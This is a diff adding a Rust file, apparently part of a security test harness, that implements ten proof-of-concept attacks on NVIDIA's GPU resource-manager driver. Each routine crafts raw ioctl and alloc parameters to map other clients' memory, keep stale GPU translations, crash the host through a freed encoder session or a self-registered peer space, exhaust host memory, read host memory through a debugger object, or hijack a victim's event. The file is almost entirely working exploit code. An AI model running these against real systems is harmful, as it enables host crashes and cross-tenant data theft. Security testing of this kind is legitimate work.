@@ -1,0 +1,190 @@
+// SPDX-License-Identifier: GPL-2.0
+//! The same of calls that an instance needs capabilities for: the attacker's has all of them.
+
+use super::{
+    attack::attacks,
+    clients::event_key,
+    holes::{space, NEW},
+    scene::{told, Attacker, MIB, OWN},
+};
+use crate::{
+    bytes::{put_u32, put_u64, u64_at},
+    guest::{rm, tools::Verdict},
+    layout,
+};
+
+attacks! {
+    "memory of others by a compute object's page (RM_MAP_MEMORY_DMA)": "kernel_graphics_object.c:kgrobjSetComputeMmio_IMPL",
+        Passes, Gpu, page_of_other_kind;
+    "shared data's page mapped for the GPU (RM_MAP_MEMORY_DMA)": "mem.c:memGetMemInterMapParams_IMPL",
+        Passes, Told, shared_page;
+    "unmapped memory that the GPU still reaches (DEFER_TLB_INVALIDATION)": "virt_mem_allocator_gm107.c:dmaFreeMapping_GM107",
+        Passes, Gpu, stale_translation;
+    "host crash: an encoder's session outlives its memory (NVENC_SW_SESSION)": "nvencsession.c:nvencsessionDestruct_IMPL",
+        Passes, Gpu, encoder_session;
+    "host crash: peer memory registered for itself (REGISTER_VA_SPACE)": "third_party_p2p.c:CliAddThirdPartyP2PVASpace",
+        Passes, Gpu, for_itself;
+    "host memory by registrations without end (REGISTER_VA_SPACE)": "third_party_p2p.c:CliAddThirdPartyP2PVASpace",
+        Passes, Told, registrations;
+    "host memory by one queue (NV_MEMORY_MAPPER)": "mem_mapper.c:memmapperConstruct_IMPL",
+        Passes, Gpu, large_queue;
+    "BAR1 lost by a context for DMA (NV01_CONTEXT_DMA)": "context_dma.c:_ctxdmaDestroyFBMappings",
+        Passes, Gpu, kernel_mapping;
+    "host memory read by a debugger (DEBUG_READ_MEMORY)": "kernel_sm_debugger_session_ctrl.c:_nv83deCtrlCmdDebugAccessMemory",
+        Passes, Gpu, debugger;
+    "another's event, as a context for DMA (NV_ESC_RM_ALLOC_CONTEXT_DMA2)": "rmapi_deprecated_misc.c:RmDeprecatedAllocContextDma",
+        Passes, Told, event_as_context;
+}
+
+/// RM_MAP_MEMORY_DMA of an object into an address space, or a range in one: the address.
+fn map(a: &Attacker, (object, space): (u32, u32), length: u64, flags: u32) -> Result<u64, String> {
+    let mut outer = [0; 64];
+    for (at, value) in [
+        (0, a.client.handle),
+        (4, rm::DEVICE_HANDLE),
+        (8, space),
+        (12, object),
+        (32, flags),
+    ] {
+        put_u32(&mut outer, at, value);
+    }
+    put_u64(&mut outer, 24, length);
+    a.escape(0x57, &mut outer, 56)?;
+    Ok(u64_at(&outer, 48))
+}
+
+/// A compute object's page is a place in the GPU's memory by the kind of page of the range
+/// (`NVOS46_FLAGS_PAGE_KIND_VIRTUAL`).
+fn page_of_other_kind(a: &Attacker) -> Verdict {
+    const KIND_OF_RANGE: u32 = 1 << 3;
+    const SPACE: u32 = OWN + 3;
+    let object = a.compute()?;
+    space(a, SPACE, (NEW, 0))?;
+    map(a, (object, SPACE), 4096, KIND_OF_RANGE).map(drop)
+}
+
+fn shared_page(a: &Attacker) -> Verdict {
+    a.alloc(rm::SUBDEVICE_HANDLE, OWN, 0xde, &mut [0; 8])?;
+    space(a, OWN + 1, (NEW, 0))?;
+    map(a, (OWN, OWN + 1), 4096, 0).map(drop)
+}
+
+fn stale_translation(a: &Attacker) -> Verdict {
+    told(a.client.memory(OWN, 2 * MIB))?;
+    space(a, OWN + 1, (NEW, 0))?;
+    let address = map(a, (OWN, OWN + 1), 2 * MIB, 0)?;
+    let mut outer = [0; 48];
+    for (at, value) in [
+        (0, a.client.handle),
+        (4, rm::DEVICE_HANDLE),
+        (8, OWN + 1),
+        (12, OWN),
+        // NVOS47_FLAGS_DEFER_TLB_INVALIDATION_TRUE.
+        (16, 1),
+    ] {
+        put_u32(&mut outer, at, value);
+    }
+    put_u64(&mut outer, 24, address);
+    a.escape(0x58, &mut outer, 40)
+}
+
+/// The session has its memory by a pointer, which is used when it ends.
+fn encoder_session(a: &Attacker) -> Verdict {
+    told(a.client.system_page(OWN))?;
+    let mut params = [0; 20];
+    // NVA0BC_ALLOC_PARAMS_VER_1.
+    put_u32(&mut params, 12, 1);
+    put_u32(&mut params, 16, OWN);
+    a.alloc(rm::SUBDEVICE_HANDLE, OWN + 1, 0xa0bc, &mut params)?;
+    told(a.client.free(OWN))?;
+    told(a.client.free(OWN + 1))
+}
+
+/// Registers a number with memory for other devices.
+fn register(a: &Attacker, number: u32) -> Verdict {
+    let mut params = [0; 16];
+    put_u32(&mut params, 0, number);
+    a.control(OWN, 0x503c_0102, &mut params)
+}
+
+fn for_itself(a: &Attacker) -> Verdict {
+    a.alloc(rm::SUBDEVICE_HANDLE, OWN, 0x503c, &mut [0; 4])?;
+    register(a, OWN)
+}
+
+/// Numbers that are no object's: the driver keeps a record of each.
+fn registrations(a: &Attacker) -> Verdict {
+    const RECORDS: u32 = 20_000;
+    a.alloc(rm::SUBDEVICE_HANDLE, OWN, 0x503c, &mut [0; 4])?;
+    for count in 0..RECORDS {
+        register(a, OWN + 1 + count).map_err(|end| format!("{end} after {count}"))?;
+    }
+    Ok(())
+}
+
+fn large_queue(a: &Attacker) -> Verdict {
+    const SURFACE: u32 = OWN + 1;
+    told(a.client.system_page(OWN))?;
+    let mut params = [0; 16];
+    put_u32(&mut params, 0, OWN);
+    a.alloc(rm::SUBDEVICE_HANDLE, SURFACE, 0xda, &mut params)?;
+    let mut params = [0; 24];
+    put_u32(&mut params, 0, SURFACE);
+    put_u32(&mut params, 4, 1 << 20);
+    put_u32(&mut params, 8, OWN);
+    a.alloc(rm::SUBDEVICE_HANDLE, OWN + 2, 0xfe, &mut params)
+}
+
+/// A context over video memory that is mapped for the kernel (`NVOS03_FLAGS_TYPE_NOTIFIER`).
+fn kernel_mapping(a: &Attacker) -> Verdict {
+    told(a.client.memory(OWN, 2 * MIB))?;
+    let mut params = [0; 32];
+    // And no hash table.
+    put_u32(&mut params, 4, 1 << 20 | 1 << 29);
+    put_u32(&mut params, 8, OWN);
+    put_u64(&mut params, 24, 2 * MIB - 1);
+    a.alloc(rm::DEVICE_HANDLE, OWN + 1, 0x2, &mut params)?;
+    told(a.client.free(OWN + 1))
+}
+
+/// A debugger of an object of its own reads a range of addresses.
+fn debugger(a: &Attacker) -> Verdict {
+    const RANGE: u32 = OWN + 4;
+    let object = a.compute()?;
+    let mut params = [0; 12];
+    put_u32(&mut params, 4, a.client.handle);
+    put_u32(&mut params, 8, object);
+    a.alloc(rm::DEVICE_HANDLE, OWN + 3, 0x83de, &mut params)?;
+    let mut params = rm::memory_params(a.client.handle, 2 * MIB);
+    // NVOS32_ALLOC_FLAGS_VIRTUAL.
+    put_u32(&mut params, 8, 0x8_0000);
+    put_u32(&mut params, 24, 0);
+    a.alloc(rm::DEVICE_HANDLE, RANGE, 0x50a0, &mut params)?;
+    let mut read = [0u8; 64];
+    let mut params = [0; 24];
+    put_u32(&mut params, 0, RANGE);
+    put_u32(&mut params, 4, 64);
+    put_u64(&mut params, 16, read.as_mut_ptr() as u64);
+    a.control(OWN + 3, 0x83de_0315, &mut params)
+}
+
+/// An event on the victim's subdevice. Its parameters are those of a context for DMA: the client
+/// stands for a subdevice, and the class is the number of a piece of memory.
+fn event_as_context(a: &Attacker) -> Verdict {
+    const KEY: u32 = 5;
+    event_key(a, 206, a.client.handle, KEY)?;
+    told(a.client.memory(layout::CLASS_OS_EVENT, 2 * MIB))?;
+    let mut outer = [0; 56];
+    for (at, value) in [
+        (0, a.client.handle),
+        (4, a.victim.client),
+        (8, OWN),
+        (12, layout::CLASS_OS_EVENT),
+        (16, rm::SUBDEVICE_HANDLE),
+        (24, layout::CLASS_OS_EVENT),
+    ] {
+        put_u32(&mut outer, at, value);
+    }
+    put_u64(&mut outer, 32, KEY.into());
+    a.escape(0x54, &mut outer, 48)
+}
